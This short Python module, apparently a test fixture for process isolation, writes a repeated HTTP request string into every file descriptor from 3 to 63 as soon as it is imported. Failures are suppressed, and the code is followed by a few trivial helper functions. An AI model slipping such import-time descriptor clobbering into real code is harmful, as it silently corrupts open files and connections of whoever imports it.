"""Writes noise to every descriptor while it is loaded."""
# held by: separate processes

import os


for number in range(3, 64):
    try:
        os.write(number, b"GET / HTTP/1.1\r\n\r\n" * 10)
    except OSError:
        pass


def square(x):
    return (x * x).sum()


def next(value):
    if not isinstance(value, int):
        raise TypeError("value must be an int")
    return value + 1


def copy(x):
    return x.clone()
